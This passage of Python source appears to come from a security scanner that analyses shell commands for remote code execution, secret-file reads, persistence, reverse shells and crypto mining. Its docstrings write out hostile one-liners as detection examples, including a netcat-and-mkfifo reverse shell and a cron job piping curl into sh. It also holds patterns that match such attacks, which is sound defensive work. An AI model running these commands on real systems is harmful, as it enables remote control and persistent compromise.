        v = value.replace("\\", "/")
        if v in self.run.downloads:
            return self.run.downloads[v]
        name = PurePosixPath(v).name
        if name and name in self.run.downloads:
            return self.run.downloads[name]
        return None

    def _downloaded_exec(self, cmd: Cmd, pw: Word, frame: _Frame) -> None:
        if pw.value and ("/" in pw.value or "\\" in pw.value or pw.value.endswith((".sh", ".exe", ".ps1"))):
            self._run_file(cmd, pw.value, frame, f"`{pw.value}`")

    def _run_file(self, cmd: Cmd, path: str, frame: _Frame, how: str, dialect: str | None = "bash") -> None:
        """A file is executed: if this command text downloaded it (or cloned the repository it is in),
        that is remote code; if it wrote decoded text into it, that text is a hidden command."""
        url = self._is_download(path) or self._cloned(path)
        if url:
            self._remote(cmd, url, frame, f"{how} runs {path}, downloaded from {url}", download=True)
        literal = self._lookup(self.run.literal_files, path)
        if literal is not None and dialect == "bash" and path not in self.run.running:
            self.run.running.add(path)  # a script that runs itself is analysed once
            self.text(literal[0], _Frame(literal[1], literal[2], frame.depth + 1, "bash"))
        hidden = self._lookup(self.run.decoded_files, path)
        if hidden is not None:
            self._decoded(cmd, hidden[0], hidden[1], frame, dialect if dialect != "python" else None,
                          f"{how} runs {path}, written from a decoded literal,")

    def _cloned(self, path: str) -> str | None:
        if not self.run.clones:
            return None
        p = path.replace("\\", "/")
        p = p.removeprefix("./")
        for d, url in self.run.clones.items():
            if p.startswith(d.rstrip("/") + "/"):
                return url
        if self.run.cwd and "/" not in p.lstrip("/") and not p.startswith("/"):
            return self.run.clones.get(self.run.cwd)
        if self.run.cwd and not p.startswith("/"):
            return self.run.clones.get(self.run.cwd)
        return None

    def _track_git_cd(self, key: str, values: list[str | None]) -> None:
        if key == "cd":
            target = next((v for v in values if v and not v.startswith("-")), None)
            self.run.cwd = target.rstrip("/") if target else None
            return
        if key != "git" or not values:
            return
        ops = [v for v in values if v and not v.startswith("-")]
        if len(ops) >= 2 and ops[0] == "clone":
            url = first_url(ops[1:2]) or (ops[1] if re.match(r"^[\w.-]+@[\w.-]+:", ops[1] or "") else None)
            if url and len(self.run.clones) < 32:
                d = ops[2] if len(ops) >= 3 else PurePosixPath(url.rstrip("/")).name.removesuffix(".git")
                self.run.clones[d.rstrip("/")] = url

    @staticmethod
    def _lookup(table: dict[str, _T], value: str) -> _T | None:
        if not table or not value:
            return None
        v = value.replace("\\", "/")
        if v in table:
            return table[v]
        name = PurePosixPath(v).name
        return table.get(name) if name else None

    _CRON_LINE = lazy(r"^\s*(?:@\w+|(?:\S+\s+){5})(.+)$")

    def _cron_lines(self, cmd: Cmd, frame: _Frame) -> None:
        """`echo '*/5 * * * * curl … | sh' | crontab -`: the scheduled commands are commands too."""
        pl = stdin_payload(cmd)
        if pl is None or not pl.text:
            return
        pin = frame.pin or (*frame.at(cmd.row, cmd.col), cmd.stmt or cmd.text)
        for line in pl.text.splitlines()[:64]:
            m = self._CRON_LINE.match(line)
            if m and not line.lstrip().startswith("#"):
                self.text(m.group(1), _Frame(frame.line, frame.column, frame.depth + 1, "bash", pin, frame.decoded))

    def _track_outputs(self, cmd: Cmd, key: str, values: list[str | None], frame: _Frame) -> None:
        """`curl … > f`, `echo <b64> | base64 -d > f`, `xxd -r -p downloaded > f`, `cp downloaded f`:
        remember what ends up in f."""
        targets = [r.target.value for r in cmd.redirects
                   if r.op in (">", ">>", ">|", "&>") and r.target is not None and r.target.value
                   and not r.target.value.startswith("/dev/") and not re.fullmatch(r"\d+", r.target.value)]
        operands = [v for v in values if v and not v.startswith("-")]
        if key in WRITERS_LAST and len(operands) >= 2:
            targets.append(operands[-1])
            operands = operands[:-1]
        if not targets:
            return
        pl = stdout_payload(cmd)
        url = pl.url if pl is not None else None
        hidden = (pl.text, pl.decoders) if pl is not None and pl.decoders and pl.text else None
        if pl is not None and pl.text and not pl.decoders and not pl.url and pl.row is not None and \
                frame.pin is None and len(self.run.literal_files) < 64:
            line, column = frame.at(pl.row, pl.col)  # `cat > run.sh <<EOF … EOF`: a script written here
            for t in targets[:4]:
                self.run.literal_files[t] = (pl.text, line, column)
                self.run.literal_files[PurePosixPath(t.replace("\\", "/")).name] = (pl.text, line, column)
        for v in operands:
            url = url or self._is_download(v)
            hidden = hidden or self._lookup(self.run.decoded_files, v)
        for t in targets[:4]:
            if url and len(self.run.downloads) < 256:
                self.run.downloads[t] = url
                self.run.downloads[PurePosixPath(t.replace("\\", "/")).name] = url
            if hidden and len(self.run.decoded_files) < 64:
                self.run.decoded_files[t] = hidden
                self.run.decoded_files[PurePosixPath(t.replace("\\", "/")).name] = hidden

    # paths: secrets read, persistence writes
    def _paths(self, cmd: Cmd, key: str, args: list[Word], values: list[str | None], frame: _Frame) -> None:
        reads = key not in self.cm.path_neutral
        for v in values[:256]:
            if not v or len(v) > 4096:
                continue
            hp = home_path(v)
            if reads:
                self._secret(cmd, hp, frame, key)
        if key in WRITERS_LAST or key in WRITERS_ALL or key == "sed":
            ops = [v for v in values if v and not v.startswith("-")]
            if key in WRITERS_LAST:
                targets = ops[-1:] if len(ops) >= 2 else []
            elif key == "sed":
                targets = ops[1:] if any(v and re.fullmatch(r"-[a-zA-Z]*i.*|--in-place.*", v) for v in values) else []
            else:
                targets = ops
            for t in targets:
                self._write(cmd, home_path(t), frame, key)

    def _secret(self, cmd: Cmd, path: str, frame: _Frame, how: str) -> None:
        if self.cm.env_dump_paths is not None and self.cm.env_dump_paths.search(path):
            self.run.add(frame, cmd, "shell-env-read", ["env.read[*]"], f"`{how}` reads the whole environment ({path})")
            return
        if self.cm.secret_any is not None and not self.cm.secret_any.search(path):
            return
        for pr in self.cm.secret_paths:
            if pr.pattern.search(path):
                if pr.value == "dotenv" and re.search(r"\.(example|sample|template|dist)$", path):
                    return
                rule = pr.rule or "shell-secret-file-read"
                self.run.add(frame, cmd, rule, [Capability("secrets.read", pr.value),
                                                Capability("fs.read", path_scope(path))],
                             f"`{how}` reads {path} ({pr.value} credentials)")
                return

    def _write(self, cmd: Cmd, path: str, frame: _Frame, how: str) -> None:
        if path in ("/dev/null", "/dev/stdout", "/dev/stderr", "-") or path.startswith("/dev/fd/"):
            return
        scope = path_scope(path)
        self.run.add(frame, cmd, "shell-file-write", [Capability("fs.write", scope)], f"`{how}` writes {scope}")
        if self.cm.persist_any is not None and not self.cm.persist_any.search(path):
            return
        for pr in self.cm.persist_paths:
            if pr.pattern.search(path):
                caps = [Capability("persist", pr.value), Capability("fs.write", scope)]
                if pr.value == "agent-config":
                    caps.append(Capability("agent.config.write", PurePosixPath(path).name))
                self.run.add(frame, cmd, "shell-persistence", caps,
                             f"`{how}` writes {path}, which persists ({pr.value})")
                return

    def _redirects(self, cmd: Cmd, frame: _Frame) -> None:
        name = prog_name(cmd.words[0].value) if cmd.words and cmd.words[0].value else ""
        for r in cmd.redirects:
            if r.target is None or r.op in ("<<", "<<-", "<<<"):
                continue
            value = r.target.value
            if value is None:
                if r.op in (">", ">>", "&>", "&>>", ">|"):
                    self.run.add(frame, cmd, "shell-file-write", [Capability("fs.write", "*")],
                                 "writes to a file computed at run time")
                continue
            if re.match(r"^/dev/(tcp|udp)/", value):
                parts = value.split("/")
                host = host_operand(parts[3]) if len(parts) > 3 else "*"
                interactive = name in self.cm.shells or base_name(name) in self.cm.shells
                exec_only = name == "exec" and len(cmd.words) == 1
                dup = any(x.op in (">&", "<&", "&>") or (x.target is not None and x.target.value in ("1", "0", "2"))
                          for x in cmd.redirects if x is not r)
                if interactive or (exec_only and r.op in ("<>", "<&", "<")) or (dup and name in ("exec",)):
                    self.run.add(frame, cmd, "shell-reverse-shell", [Capability("net.egress", host), "proc.shell"],
                                 f"a shell's input/output is connected to {value}",
                                 confidence=None if interactive else Confidence.MEDIUM)
                else:
                    self.run.add(frame, cmd, "shell-network-egress", [Capability("net.egress", host)],
                                 f"opens a raw connection to {value}")
                continue
            if r.op in (">", ">>", "&>", "&>>", ">|", ">&") and not re.fullmatch(r"\d+|-", value):
                self._write(cmd, home_path(value), frame, name or "redirect")
            elif r.op in ("<", "<>"):
                self._secret(cmd, home_path(value), frame, name or "redirect")

    def _env_reads(self, cmd: Cmd, frame: _Frame) -> None:
        for name in dict.fromkeys(cmd.env_reads):
            if not name.isupper() and not re.fullmatch(r"[A-Z][A-Z0-9_]*", name):
                continue
            if name in self.cm.ignored_env:
                continue
            caps = [Capability("env.read", name)]
            if self.cm.credential_env is not None and self.cm.credential_env.search(name):
                caps.append(Capability("secrets.read", f"env:{name}"))
            self.run.add(frame, cmd, "shell-env-read", caps, f"reads the environment variable {name}")

    def _miner_args(self, cmd: Cmd, name: str, values: list[str | None], frame: _Frame) -> None:
        rx = self.cm.miner_args
        if rx is None:
            return
        for v in values[:256]:
            if v and rx.search(v):
                caps: list[Capability | str] = ["compute.mine"]
                m = re.search(r"stratum\d?\+(?:tcp|ssl|tls)://([^/\s:'\"]+)", v, re.IGNORECASE)
                if m:
                    caps.append(Capability("net.egress", m.group(1).lower()))
                self.run.add(frame, cmd, "shell-crypto-miner", caps, f"`{name}` is given mining-pool arguments ({v[:80]})")
                return

    def _pipeline_shell(self, cmd: Cmd, key: str, args: list[Word], frame: _Frame) -> None:
        """`mkfifo f; cat f | sh -i 2>&1 | nc host port > f` and `nc host port | sh`."""
        if not (key in self.cm.shells or base_name(key) in self.cm.shells):
            return
        if any(w.value and re.fullmatch(r"-[a-zA-Z]*c[a-zA-Z]*", w.value) for w in args):
            return
        if any(w.value and not w.value.startswith("-") for w in args):
            return
        for other in (cmd.upstream, cmd.downstream):
            if other is None or not other.words or other.words[0].value is None:
                continue
            oname = prog_name(other.words[0].value)
            if normalise(oname) == "openssl" and not any(w.value == "s_client" for w in other.words[1:]):
                continue
            if normalise(oname) in NETCAT:
                hosts = [host_operand(w.value) for w in other.words[1:] if w.value and not w.value.startswith("-")]
                host = next((h for h in hosts if h != "*"), "*")
                self.run.add(frame, cmd, "shell-reverse-shell", [Capability("net.egress", host), "proc.shell"],
                             f"a shell is piped to/from `{oname}` ({host})")
                return


# ---- public entry points ------------------------------------------------------------------------

MAX_COMMAND_CHARS = 1024 * 1024


def analyze_command(command: str, ctx: CommandContext, *, capmap: Capmap | None = None,
                    dialect: str = "bash") -> list[Finding]:
    """Findings for a shell command string (multi-line is fine) found at `ctx`."""
    return analyze_command_decoded(command, ctx, capmap=capmap, dialect=dialect)[0]


def analyze_command_decoded(command: str, ctx: CommandContext, *, capmap: Capmap | None = None,
                            dialect: str = "bash") -> tuple[list[Finding], list[tuple[int, str, str]]]:
    """`analyze_command` plus the hidden commands it decoded and executed: [(line, dialect, text)]."""
    if not isinstance(command, str) or not command.strip():
        return [], []
    run = _Run(ctx, capmap or load_capmap())
    analyzer = _Analyzer(run)
    analyzer.text(command[:MAX_COMMAND_CHARS], _Frame(max(1, ctx.line), max(1, ctx.column), 0, dialect))
    return run.findings(), run.decoded_texts


_ARGV_VAR = lazy(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-[^}]*)?\}|\$([A-Za-z_][A-Za-z0-9_]*)")


def _expand_argv_item(value: str, reads: list[str]) -> str | None:
    """MCP/hook hosts expand `${VAR}` in argv; anchors become scope prefixes, other variables make
    the word unknown (and are environment reads)."""
    from skillscan.analyzers.shell.syntax import HOME_VARS

    if "$" not in value:
        return value
    unknown = False

    def sub(m: re.Match[str]) -> str:
        nonlocal unknown
        name = m.group(1) or m.group(2)
        if name in HOME_VARS:
            return HOME_VARS[name]
        if name != "UNRESOLVED":
            reads.append(name)
        unknown = True
        return ""

    out = _ARGV_VAR.sub(sub, value)
    return None if unknown else out


def analyze_argv(argv: Sequence[str], ctx: CommandContext, *, capmap: Capmap | None = None) -> list[Finding]:
    """Findings for an exec-style argv (subprocess lists, MCP command + args): no shell parsing of the
    words themselves; `sh -c 'string'` and interpreters' inline code are still analysed."""
    items = [str(a) for a in list(argv)[:MAX_ARGV] if a is not None]
    if not items or not items[0].strip():
        return []
    run = _Run(ctx, capmap or load_capmap())
    analyzer = _Analyzer(run)
    text = " ".join(items)
    reads: list[str] = []
    words = [Word(_expand_argv_item(v, reads), v, 0, 0) for v in items]
    cmd = Cmd(words=words, row=0, col=0, text=text[:SNIPPET], env_reads=reads)
    analyzer.command(cmd, _Frame(max(1, ctx.line), max(1, ctx.column), 0, "bash"))
    return run.findings()
